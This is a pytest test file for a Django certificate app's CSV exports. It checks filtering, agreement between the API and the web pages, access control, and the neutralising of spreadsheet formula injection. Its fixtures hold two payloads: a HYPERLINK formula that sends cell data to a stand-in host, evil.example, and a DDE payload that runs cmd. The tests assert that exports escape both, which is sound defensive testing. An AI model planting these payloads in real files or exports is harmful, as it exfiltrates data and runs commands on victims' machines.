"""CSV exports of the certificates table and the audit log: exactly the filtered rows,
streamed, every cell safe to open in a spreadsheet; the same through the pages and the API."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.http import StreamingHttpResponse
from django.test import Client
from django.utils import timezone

from certificates.models import AuditEvent, Certificate, Domain
from certificates.services import audit
from tests.conftest import actor
from tests.seed import make_certificate

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def read_csv(response: Any) -> list[dict[str, str]]:
    assert isinstance(response, StreamingHttpResponse), "a CSV export is streamed"
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename=")
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body, newline="")))


@pytest.fixture
def certificates(owner: User, colleague: User) -> dict[str, Certificate]:
    Domain.objects.create(name="example.org")
    dora = User.objects.create_user("dora", "dora@example.org")
    now = timezone.now()
    return {
        "soon": make_certificate(owner, not_after=now + timedelta(days=5)),
        "later": make_certificate(colleague),
        "org": make_certificate(dora, issuer="CN=Other CA,O=Other"),
        # A CA (or an import) controls the subject; a person types the revocation reason.
        "hostile": make_certificate(
            colleague,
            subject=f"CN={FORMULA}",
            revoked_at=now,
            revocation_reason="@SUM(1+1)*cmd|' /C calc'!A0",
            revocation_status="revoked",
        ),
    }


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({}, ["hostile", "org", "later", "soon"]),  # newest first
        ({"expiring_within": "30"}, ["soon"]),
        ({"domain": "example.org"}, ["org"]),
        ({"issuer": "other ca"}, ["org"]),
        ({"status": "revoked"}, ["hostile"]),
        ({"q": "bob", "sort": "created_at"}, ["later", "hostile"]),
    ],
)
def test_the_export_holds_exactly_what_the_filters_find(
    admin_web: Client,
    admin_api: Client,
    certificates: dict[str, Certificate],
    params: dict[str, str],
    expected: list[str],
) -> None:
    ids = [str(certificates[name].pk) for name in expected]
    page_rows = read_csv(admin_web.get("/certificates/export.csv", params))
    assert [row["id"] for row in page_rows] == ids
    api_rows = read_csv(admin_api.get("/api/v1/certificates/export.csv", params))
    assert api_rows == page_rows
    listed = admin_api.get("/api/v1/certificates", params).json()["items"]
    assert [str(c["id"]) for c in listed] == ids  # the list and the export agree


def test_the_export_has_every_column_of_a_certificate(
    admin_web: Client, certificates: dict[str, Certificate]
) -> None:
    cert = certificates["soon"]
    (row,) = read_csv(admin_web.get("/certificates/export.csv", {"expiring_within": "30"}))
    assert row["owner"] == "alice" and row["email"] == cert.email
    assert row["serial_hex"] == cert.serial_hex
    assert row["sha256_fingerprint"] == cert.sha256_fingerprint
    assert row["status"] == "expiring" and row["key_source"] == "server"
    assert row["not_after"] == cert.not_after.strftime("%Y-%m-%dT%H:%M:%SZ")
    assert row["revoked_at"] == "" and row["revocation_status"] == ""


def test_formula_injection_is_neutralised(
    admin_web: Client, certificates: dict[str, Certificate]
) -> None:
    (row,) = read_csv(admin_web.get("/certificates/export.csv", {"status": "revoked"}))
    assert row["subject"] == f"CN={FORMULA}"  # not at the start: a spreadsheet shows text
    assert row["revocation_reason"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_a_serial_starting_with_a_minus_is_kept_as_text(admin_web: Client, owner: User) -> None:
    make_certificate(owner, serial_hex="-01ff")  # negative serials exist in the wild
    (row,) = read_csv(admin_web.get("/certificates/export.csv"))
    assert row["serial_hex"] == "'-01ff"


def test_bad_filters_are_refused_not_exported_unfiltered(
    admin_web: Client, admin_api: Client, certificates: dict[str, Certificate]
) -> None:
    page = admin_web.get("/certificates/export.csv", {"status": "lost"})
    assert page.status_code == 400 and not page.streaming
    api = admin_api.get("/api/v1/certificates/export.csv", {"expiring_within": "-1"})
    assert api.status_code == 422 and api.json()["errors"][0]["field"] == "expiring_within"


def test_employees_cannot_export(owner_web: Client, owner_api: Client) -> None:
    assert owner_web.get("/certificates/export.csv").status_code == 403
    assert owner_web.get("/audit/export.csv").status_code == 403
    for url in ("/api/v1/certificates/export.csv", "/api/v1/audit/export.csv"):
        response = owner_api.get(url)
        assert response.status_code == 403
        assert response.json() == {"detail": "Only certificate admins can do this."}


@pytest.fixture
def events(admin: User, owner: User) -> list[AuditEvent]:
    """Three events a day apart, one carrying a formula in its details (and no others)."""
    AuditEvent.objects.all().delete()
    made = [
        audit.record(actor(owner), "request.created", None, n=1),
        audit.record(actor(admin), "certificate.revoked", None, reason=FORMULA),
        audit.record(actor(admin), "domain.added", None),
    ]
    now = timezone.now()
    for days_ago, event in zip((2, 1, 0), made, strict=True):
        AuditEvent.objects.filter(pk=event.pk).update(created_at=now - timedelta(days=days_ago))
    return made


def test_the_audit_export_takes_the_list_parameters(
    admin_api: Client, events: list[AuditEvent]
) -> None:
    yesterday = (timezone.now() - timedelta(days=1)).date().isoformat()
    today = timezone.now().date().isoformat()
    for params, expected in (
        ({}, [2, 1, 0]),
        ({"actor": "carol"}, [2, 1]),
        ({"action": "certificate"}, [1]),
        ({"since": yesterday}, [2, 1]),
        ({"until": today}, [1, 0]),
        ({"since": yesterday, "until": today, "actor": "carol"}, [1]),
    ):
        rows = read_csv(admin_api.get("/api/v1/audit/export.csv", params))
        listed = admin_api.get("/api/v1/audit", params).json()["items"]
        want = [str(events[i].pk) for i in expected]
        assert [row["id"] for row in rows] == want, params
        assert [str(item["id"]) for item in listed] == want, params


def test_the_audit_page_filters_by_dates_and_exports_the_same(
    admin_web: Client, events: list[AuditEvent]
) -> None:
    day = (timezone.now() - timedelta(days=1)).date().isoformat()
    page = admin_web.get("/audit/", {"since": day, "until": day})
    assert [e.pk for e in page.context["page"]] == [events[1].pk]
    (row,) = read_csv(admin_web.get("/audit/export.csv", {"since": day, "until": day}))
    assert row["action"] == "certificate.revoked" and row["actor"] == "carol"
    assert row["details"].startswith('{"reason": "=HYPERLINK(')
    assert admin_web.get("/audit/", {"since": "yesterday"}).status_code == 400


def test_a_formula_in_an_audit_detail_is_neutralised(admin_api: Client, admin: User) -> None:
    AuditEvent.objects.create(actor_label=FORMULA, action="test.event", details={})
    (row,) = read_csv(admin_api.get("/api/v1/audit/export.csv", {"action": "test"}))
    assert row["actor"] == "'" + FORMULA
